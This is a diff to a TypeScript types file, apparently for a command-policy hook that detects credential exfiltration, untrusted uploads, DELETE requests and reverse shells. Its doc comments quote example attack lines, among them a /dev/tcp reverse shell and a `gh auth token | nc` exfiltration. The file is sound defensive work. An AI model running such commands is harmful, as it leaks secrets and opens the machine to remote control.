@@ -10,7 +10,7 @@ import { buildRuleIndex } from "./rule-index.ts";
 import type { Effect, Layer } from "./types.ts";
 
 /** Version of this format; a hook that meets another version treats the policy as stale. */
-export const COMPILED_FORMAT = 11;
+export const COMPILED_FORMAT = 12;
 
 /**
  * Where the parts of a compiled policy file lie: byte offsets counted from the start of its second
@@ -115,6 +115,24 @@ export interface SendMatch {
    * (`echo $GITHUB_TOKEN`), `from` (`gh auth token`), `environment` (`printenv | grep -i token`).
    */
   readonly transcript?: boolean;
+  /**
+   * Well-known tokens and the hosts of their service: variable name wildcards (lowercase) to host
+   * wildcards. Such a variable sent as a credential (a header, `-u`) to a known host that is not one
+   * of its service's counts; variables the table does not name are not judged here.
+   * The built-in table is extended by `token_hosts` in lanes.yaml.
+   */
+  readonly tokens?: Readonly<Record<string, readonly string[]>>;
+  /**
+   * Local files uploaded (`NetworkSend.files`) count, to a known peer that is neither local, nor of
+   * the private network (RFC 1918 addresses, one-label names), nor `trusted`.
+   */
+  readonly uploads?: boolean;
+  /** Hosts (wildcards) the policy trusts with uploads: `upload_hosts` of lanes.yaml. */
+  readonly trusted?: readonly string[];
+  /** Requests with one of these methods (uppercase) to a known peer that is not local count (`DELETE`). */
+  readonly methods?: readonly string[];
+  /** A shell on this machine tied to the peer counts (`bash -i >& /dev/tcp/h/p 0>&1`). */
+  readonly shell?: boolean;
   /** Programs whose output, sent as the request's content, counts (`gh auth token | nc host 443`). */
   readonly from?: readonly string[];
   /** The source's positional words, as a command rule's `args`. */
@@ -188,7 +206,7 @@ export type CompiledMatch =
        * The schema's modes, and two for built-in rules only: `no-write` (writes and deletes count,
        * mode changes do not: `chmod 600 ~/.ssh/config` is no edit) and `no-read` (reads and runs count).
        */
-      readonly access: PathMatch["access"] | "no-write" | "no-read";
+      readonly access: PathMatch["access"] | "no-write" | "no-read" | "no-list" | "no-share";
       readonly patterns: readonly CompiledGlob[];
       readonly except: readonly CompiledGlob[];
     }
@@ -312,6 +330,10 @@ export interface CompiledOptions {
   readonly analysisBudgetMs: number;
   readonly auditMaxBytes: number;
   readonly escalateAfter: number;
+  /** Hosts (wildcards) local files may be uploaded to without asking (`upload_hosts`, every layer's). */
+  readonly uploadHosts: readonly string[];
+  /** Hosts a token may be sent to beyond the built-in table, by variable name wildcard (`token_hosts`). */
+  readonly tokenHosts: Readonly<Record<string, readonly string[]>>;
 }
 
 export interface CompiledPolicy {
@@ -361,4 +383,6 @@ export const DEFAULT_OPTIONS: CompiledOptions = {
   analysisBudgetMs: 50,
   auditMaxBytes: 5_000_000,
   escalateAfter: 3,
+  uploadHosts: [],
+  tokenHosts: {},
 };
